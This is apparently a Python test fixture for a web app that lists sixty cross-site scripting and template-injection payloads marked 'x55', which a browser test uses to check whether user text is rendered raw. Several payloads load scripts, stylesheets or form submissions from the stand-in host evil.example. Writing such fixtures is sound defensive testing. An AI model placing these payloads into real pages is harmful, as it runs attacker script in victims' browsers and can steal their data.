"""Sixty things that people type to make another person's browser do something; each carries the mark `x55`.

Shown as text they do nothing. Put raw into a page, each leaves an element, an attribute, an address or words that
`tests/browser/hostile_page.js` finds.
"""

RAN = "alert(1)"
# Become elements where text is printed raw.
ELEMENTS = (
    "<script x55>alert(1)</script>",
    "<ScRiPt x55>alert(1)</sCrIpT>",
    "<script x55 src=//evil.example/x.js></script>",
    "<img x55 src=x onerror=alert(1)>",
    "<img x55 src=/x onerror='alert(1)'/>",
    '<img/x55/src="x"/onerror="alert(1)">',
    "<svg x55 onload=alert(1)>",
    "<svg x55><script>alert(1)</script></svg>",
    "<svg x55><animate onbegin=alert(1) attributeName=x>",
    "<svg x55><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<body x55 onload=alert(1)><i x55>",
    "<iframe x55 src=javascript:alert(1)>",
    "<iframe x55 srcdoc='<script>alert(1)</script>'>",
    "<object x55 data=javascript:alert(1)>",
    "<embed x55 src=javascript:alert(1)>",
    "<a x55 href=javascript:alert(1)>press</a>",
    "<a x55 href='java&#x09;script:alert(1)'>press</a>",
    "<form x55 action=//evil.example><button>Continue</button></form>",
    "<button x55 formaction=//evil.example form=page>Continue</button>",
    "<input x55 onfocus=alert(1) autofocus>",
    "<select x55 onfocus=alert(1) autofocus>",
    "<details x55 open ontoggle=alert(1)>",
    "<video x55><source onerror=alert(1)></video>",
    "<audio x55 src=x onerror=alert(1)>",
    "<marquee x55 onstart=alert(1)>",
    "<style x55>@import '//evil.example/x.css';</style>",
    "<link x55 rel=stylesheet href=//evil.example/x.css>",
    "<base x55 href=//evil.example/>",
    "<meta x55 http-equiv=refresh content='0;url=//evil.example'>",
    "<math x55><mtext><img src=x onerror=alert(1)>",
    "<template x55><script>alert(1)</script></template>",
    "<x55 onclick=alert(1)>press",
    "<p x55 style='position:fixed;inset:0;background:red'>",
    "<div x55 id=main></div>",
    "<plaintext x55>",
    "<noscript><p title='</noscript><img x55 src=x onerror=alert(1)>'>",
    "<textarea><img x55 src=x onerror=alert(1)></textarea><i x55>",
)
# Break out of what they stand in.
BREAKERS = (
    "--><img x55 src=x onerror=alert(1)>",
    "]]><img x55 src=x onerror=alert(1)>",
    "</title><img x55 src=x onerror=alert(1)>",
    "</textarea><img x55 src=x onerror=alert(1)>",
    "</script><img x55 src=x onerror=alert(1)>",
    "</script><script x55>alert(1)</script>",
    "</option></select><img x55 src=x onerror=alert(1)>",
    "</td></tr></table><img x55 src=x onerror=alert(1)>",
    "</text></svg><img x55 src=x onerror=alert(1)>",
    '"><img x55 src=x onerror=alert(1)>',
    "'><img x55 src=x onerror=alert(1)>",
)
# Become attributes where a value is printed raw.
ATTRIBUTES = (
    '" x55 autofocus onfocus=alert(1) y="',
    "' x55 autofocus onfocus=alert(1) y='",
    '" x55="" style="position:fixed',
    '"/x55/onmouseover="alert(1)',
    "x x55 onmouseover=alert(1)",
)
# Become addresses where one is printed without asking what kind it is.
ADDRESSES = (
    "javascript:alert('x55')",
    "JaVaScRiPt:alert('x55')",
    "data:text/html,<x55><script>alert(1)</script>",
    "vbscript:msgbox('x55')",
)
# Become words where somebody's text is taken for a template.
TEMPLATES = (
    '{{ "x55-rendered"|upper }}',
    "{% filter upper %}x55-rendered{% endfilter %}",
    '{% if 1 %}{{ "x55-rendered"|upper }}{% endif %}',
)
PAYLOADS = (*ELEMENTS, *BREAKERS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES)
